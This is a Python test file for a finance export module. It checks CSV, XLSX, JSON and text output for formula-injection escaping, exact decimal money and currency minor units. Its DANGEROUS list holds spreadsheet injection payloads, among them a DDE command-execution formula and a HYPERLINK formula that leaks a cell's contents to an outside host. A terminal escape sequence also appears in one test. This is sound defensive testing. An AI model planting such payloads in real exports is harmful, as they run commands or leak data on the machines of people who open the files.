"""Exports: no cell that a spreadsheet runs, exact money in every format, cells rounded as on an invoice."""

from __future__ import annotations

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest

from weighbridge.cli import to_json
from weighbridge.finance.currencies import minor_unit
from weighbridge.finance.export import Table, safe_text, to_csv, to_json_data, to_text, to_xlsx

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tharmless",
    "\r=1",
    "\rharmless",
    "\n=1",
    " =1",
    "   +1",
    "\u00a0=1",
    " \u00a0 -1",
    "\ufeff=1",
    "\u200b@x",
    "\u3000=1",
    "-",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1)',
    "first\n=1",
    "first\r\n+1",
    "first\r@x",
    "first\n \u00a0=1",
    "first\nsecond\n-1",
    "first\u2028=1",
    "first\x0b=1",
    "\uff1d1+1",
    "'\n=1",
]
HARMLESS = [
    "",
    "ads",
    "a=b",
    "a-b",
    "a + b",
    "x@example.com",
    "'=1",
    "1-2",
    "1",
    "first\nsecond",
    "arn:aws:s3:::b",
    "#hash",
    "é",
    '"=1"',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_cell_has_an_apostrophe_before_every_line_that_is_one(text: str) -> None:
    safe = safe_text(text)
    assert safe != text
    assert safe.replace("'", "") == text.replace("'", "")
    assert safe[:1] not in "\t\r\n"
    for line in safe.splitlines():
        assert not line.lstrip(" \u00a0\ufeff\u200b\u3000").startswith(tuple("=+-@\t\r\uff1d"))
    # Once safe, it stays as it is: exporting twice adds nothing.
    assert safe_text(safe) == safe


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_cell_is_left_alone(text: str) -> None:
    assert safe_text(text) == text


MONEY = Table(
    ("business_line", "billing_currency", "effective_cost", "charge_rows"),
    (
        ("=ads", "USD", Decimal("-12.345000000000000001"), 3),
        ("search", "JPY", Decimal("12.500000000000000000"), 1),
        ("fraud", "KWD", Decimal("0.000500000000000000"), 2),
        (None, "USD", None, 0),
    ),
)


def test_csv_keeps_every_digit_quotes_text_and_leaves_null_empty() -> None:
    assert to_csv(MONEY) == (
        '"business_line","billing_currency","effective_cost","charge_rows"\r\n'
        '"\'=ads","USD",-12.345000000000000001,3\r\n'
        '"search","JPY",12.5,1\r\n'
        '"fraud","KWD",0.0005,2\r\n'
        ',"USD",,0\r\n'
    )


def test_every_dangerous_cell_survives_a_csv_reader_as_one_safe_cell() -> None:
    table = Table(("text", "number"), tuple((text, at) for at, text in enumerate(DANGEROUS)))
    lines = list(csv.reader(io.StringIO(to_csv(table), newline="")))[1:]
    assert [line[0] for line in lines] == [safe_text(text) for text in DANGEROUS]
    assert [line[1] for line in lines] == [str(at) for at in range(len(DANGEROUS))]


def sheet(table: Table) -> list[list[object]]:
    """The cells of the workbook that an answer becomes."""
    from openpyxl import load_workbook

    opened = load_workbook(io.BytesIO(to_xlsx(table, "answer")))
    return [list(row) for row in opened.active.iter_rows()]


def test_xlsx_money_is_rounded_to_the_minor_unit_with_the_exact_text_beside_it() -> None:
    cells = sheet(MONEY)
    assert [cell.value for cell in cells[0]] == [
        "business_line",
        "billing_currency",
        "effective_cost",
        "effective_cost (exact)",
        "charge_rows",
    ]
    assert [(row[2].value, row[2].number_format, row[3].value) for row in cells[1:4]] == [
        (-12.35, "#,##0.00", "-12.345000000000000001"),
        (13, "#,##0", "12.5"),
        (0.001, "#,##0.000", "0.0005"),
    ]
    assert [cells[4][at].value for at in (0, 2, 3)] == [None, None, None]
    assert [row[4].value for row in cells[1:]] == [3, 1, 2, 0]


def test_no_xlsx_cell_is_a_formula() -> None:
    table = Table(("text",), tuple((text,) for text in [*DANGEROUS, "=1\x00"]))
    for row in sheet(table):
        assert row[0].data_type in ("s", "n")
        assert not str(row[0].value).startswith("=")


def test_json_money_is_exact_text_and_times_say_their_zone() -> None:
    table = Table(
        ("effective_cost", "charge_rows", "day", "at", "tags"),
        (
            (
                Decimal("12345678901234567890.123456789012345678"),
                3,
                datetime.date(2026, 10, 1),
                datetime.datetime(2026, 10, 1, 2, 3),
                {"k": None, "team": "ads"},
            ),
        ),
    )
    assert json.loads(to_json(to_json_data(table))) == [
        {
            "effective_cost": "12345678901234567890.123456789012345678",
            "charge_rows": 3,
            "day": "2026-10-01",
            "at": "2026-10-01T02:03:00Z",
            "tags": {"k": None, "team": "ads"},
        }
    ]


def test_the_table_is_aligned_exact_and_one_line_a_row() -> None:
    table = Table(
        ("who", "effective_cost"), (("ads\n\x1b[2Jforged", Decimal("1.50")), (None, Decimal("100")))
    )
    lines = to_text(table).splitlines()
    assert lines[0].split() == ["who", "effective_cost"]
    assert lines[2].endswith("             1.5")
    assert lines[3].startswith("-")
    assert lines[3].endswith("           100")
    assert len({len(line) for line in lines[:4]}) == 1
    assert lines[-1] == "2 rows"


def test_minor_units_are_those_of_iso_4217() -> None:
    babel = pytest.importorskip("babel.numbers")
    for currency in (
        "USD",
        "EUR",
        "JPY",
        "KRW",
        "KWD",
        "BHD",
        "TND",
        "CLP",
        "CLF",
        "ISK",
        "VND",
        "GBP",
        "INR",
    ):
        assert minor_unit(currency) == babel.get_currency_precision(currency), currency
    assert minor_unit(None) == 2
